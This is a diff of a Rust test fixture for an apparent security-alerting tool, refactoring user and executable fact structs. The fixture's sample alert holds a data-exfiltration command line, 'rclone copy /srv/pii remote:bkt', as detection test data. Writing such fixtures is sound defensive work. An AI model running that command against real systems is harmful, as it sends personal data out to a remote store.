@@ -6,9 +6,8 @@ use std::sync::Arc;
 use crate::alert::Origin;
 use crate::alert::{
     Alert, AlertState, Condition, Destination, DocumentKind, ExecutableFacts, Network, Notification, Parent,
-    ProcessFacts, RuleFacts, Source, Window,
+    ProcessFacts, RuleFacts, Source, UserFacts, Window,
 };
-use crate::attribution::User;
 use crate::rule::{Confidence, Host, Metadata, Quantity, Severity, Value};
 use crate::time::Timestamp;
 
@@ -91,14 +90,14 @@ fn alert() -> Alert {
         }],
         process: Some(ProcessFacts {
             pid: 4121,
-            executable: ExecutableFacts { exe: text("/usr/bin/rclone"), kind: "file", hash: None },
+            executable: ExecutableFacts { exe: text("/usr/bin/rclone"), kind: "file", hash: None, package: None },
             cmdline: text("rclone copy /srv/pii remote:bkt"),
             started_at: Some(at("2026-05-04T02:05:58Z")),
             evidence: Some("exact"),
             ..ProcessFacts::default()
         }),
         parent: Some(Parent { pid: 4090, exe: text("/usr/bin/bash"), cmdline: Value::Missing }),
-        user: Some(User { uid: Some(1000), name: Some("alice".into()) }),
+        user: Some(UserFacts { uid: Some(1000), name: Some("alice".into()), login_name: None }),
         source: Some(Source { ip: [10, 0, 3, 9].into_address(), port: 51544 }),
         destination: Some(Destination {
             ip: [203, 0, 113, 7].into_address(),
